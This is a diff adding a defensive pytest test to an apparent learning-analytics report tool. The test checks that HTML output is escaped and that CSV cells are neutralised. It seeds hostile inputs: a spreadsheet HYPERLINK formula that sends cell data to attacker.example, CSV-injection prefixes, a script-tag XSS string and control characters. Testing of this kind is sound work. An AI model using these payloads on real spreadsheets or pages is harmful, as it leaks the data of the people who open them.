@@ -223,6 +223,45 @@ def test_json_and_csv_outputs(seeded: dict[str, Any]) -> None:
     assert len(rows("reingest_impact")) == len(report.reingest_impact.flagged)
 
 
+def test_hostile_learner_text_neither_breaks_the_report_nor_arms_the_csv(
+    seeded: dict[str, Any], pilot: CoursePilot
+) -> None:
+    """Issue 15 item 10: a goal with `$$` (matplotlib mathtext) and questions that a spreadsheet would run."""
+    tmp: Path = seeded["tmp"] / "hostile"
+    store = LearnerStore(f"sqlite:///{tmp / 'hostile.db'}")
+    goal = "save $$ with Excel budgets"
+    store.save_playlist("eve", pilot.playlist(goal))
+    store.save_playlist("eve", pilot.playlist("cut $costs$ with \\frac{a}{b} sheets"))
+    formula = '=HYPERLINK("http://attacker.example/?q="&A1,"Click for your grade")'
+    hostile = [formula, "+1+1 what is a pivot?", "-2+3 kubernetes pods", "@SUM(A1:A9) deploy a helm chart", "\tcmd|x"]
+    script = "<script>alert(1)</script> kubernetes ingress controllers"
+    for n, question in enumerate([*hostile, script, "\x1b[31mred\x07 kubernetes\x00 operators"]):
+        store.log_answer(pilot.ask(question), "eve", message_id=f"m-hostile-{n}")
+    report = build_report(store, pilot)
+    assert goal in [g.goal for g in report.demand.goals]
+
+    html = write_html(report, tmp / "insights.html").read_text(encoding="utf-8")  # mathtext used to raise here
+    assert "save $$ with Excel budgets" in html  # shown literally in the goals chart
+    assert "<script" not in html  # autoescaping is on in the templates
+    if any(script in c.examples for c in report.content_gaps.clusters):
+        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
+
+    files = write_csv(report, tmp / "csv")
+    cells = [
+        cell for path in files.values() for row in csv.reader(path.open(newline="", encoding="utf-8")) for cell in row
+    ]
+    for cell in cells:
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f]", cell), repr(cell)
+    questions = {row["question"] for row in csv.DictReader(files["gap_questions"].open(newline="", encoding="utf-8"))}
+    goals = {row["goal"] for row in csv.DictReader(files["demand_goals"].open(newline="", encoding="utf-8"))}
+    assert goal in goals
+    for question in hostile:
+        if question in [q.question for c in report.content_gaps.clusters for q in c.questions]:
+            assert "'" + question in questions  # neutralised, the text otherwise kept
+    assert any(q.startswith("'=HYPERLINK(") for q in questions)
+
+
 @pytest.fixture(scope="module")
 def html_report(seeded: dict[str, Any]) -> Path:
     return write_html(seeded["report"], seeded["tmp"] / "out" / "insights.html")
